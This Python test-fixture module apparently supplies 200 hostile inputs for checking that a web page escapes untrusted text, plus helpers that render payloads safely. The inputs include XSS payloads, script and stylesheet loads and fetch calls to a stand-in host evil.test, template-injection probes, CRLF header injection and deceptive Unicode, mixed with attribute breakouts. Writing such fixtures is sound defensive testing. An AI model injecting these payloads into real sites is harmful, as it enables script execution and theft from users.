"""Texts that want to be more than text, and how a page shows them."""

from __future__ import annotations

import json
import unicodedata

_RUN = "window.__hit='{n}'"
_TRICKS = (
    "<script>{run}</script>",
    "<ScRiPt src=//evil.test/{n}.js></sCrIpT>",
    "<script>fetch('//evil.test/{n}')</script>",
    "<script type=module>import('/__evil{n}.js')</script>",
    "<img src=x onerror={run}>",
    "<img src=//evil.test/{n}.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<math><mtext><style><img src=x onerror={run}></style></mtext></math>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<input autofocus onfocus={run}>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=//evil.test/{n}>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/{n}.css>",
    "<meta http-equiv=refresh content=0;url=//evil.test/{n}>",
    "<style>@import '//evil.test/{n}'; body {{ display: none }}</style>",
    "<form action=//evil.test/{n}><button>Replay</button></form>",
    "<a href=javascript:{run}>Replay</a>",
    "javascript:{run}",
    '" onmouseover="{run}" autofocus onfocus="{run}" x="',
    "' onclick='{run}' style='width: 9000px",
    "` onload=`{run}",
    "<!-- {run} --!><script>{run}</script>",
    "<![CDATA[<script>{run}</script>]]>",
    "<template><script>{run}</script></template><slot onslotchange={run}>",
    "<plaintext>{n}",
    "<xmp><script>{run}</script></xmp>",
    "<noscript><p title='</noscript><script>{run}</script>'></noscript>",
    "{{{{ 7 * 191 }}}} {{% raw %}} ${{ {run} }} #{{7}} <%= 7 %> {n}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} {n}",
    "&lt;script&gt; &amp;amp; &#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\x3c/script\\x3e",
    "＜script＞{run}＜/script＞ \u2028{run}\u2029{n}",
    "\u202e\u2066tpircs\u2069\u202c abc\u200e\u200f\u061c {n}",
    "\u200b\u200d\ufeff\u00ad\u2060 nothing to see {n}",
    "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 30 + "{n}",
    "\x00\x01\x07\x08\x1b[2J\x1b]0;title\x07\x7f\x80\x9b {n}",
    "data: {{}}\n\nevent: message\ndata: <script>{run}</script>\n\n{n}",
    "\r\nSet-Cookie: a={n}\r\n\r\n<script>{run}</script>",
    "⚠️👩‍👩‍👧‍👦🏴‍☠️\U000e0041\U000e007f {n}",
    "לֹא תִרְצָח مرحبا بالعالم {n}",
    "W" * 3000 + "{n}",
    "W " * 3000 + "{n}",
    "\t \n \n \t {n}",
)
_BREAKOUTS = ("", '">', "'></a></td></tr></table>", "</textarea></script></title></style></pre></option>-->")
HOSTILE = tuple(
    breakout + trick.format(run=_RUN.format(n=n), n=n)
    for n, (trick, breakout) in enumerate((trick, each) for trick in _TRICKS for each in _BREAKOUTS)
)
assert len(set(HOSTILE)) == 200

NAMES = (
    "javascript:alert/1",
    "//evil.test/x",
    "../../login",
    "#main",
    "@evil.test:80/+",
    "a+b#c/../d",
    "-._:",
)
"""Topics that are allowed and could be taken for something else in an address."""


def as_json(payload: object) -> str:
    """A payload on its own page: indented, and what cannot be seen as the escape that JSON has for it."""
    text = json.dumps(payload, indent=2, ensure_ascii=False)
    return "".join(each if each.isprintable() or each == "\n" else json.dumps(each)[1:-1] for each in text)


def on_a_line(text: str, most: int) -> str:
    """A text in a line: blanks as one, cut at its end, and what cannot be seen as a sign."""
    line = " ".join(text[: 4 * most].split())
    if len(line) > most or len(text) > 4 * most:
        line = line[: most - 1] + "…"
    return "".join(map(_sign, line))


def _sign(each: str) -> str:
    if each.isprintable():
        return each
    if ord(each) < 32:
        return chr(0x2400 + ord(each))
    return " " if unicodedata.category(each).startswith("Z") else f"\\u{{{ord(each):x}}}"
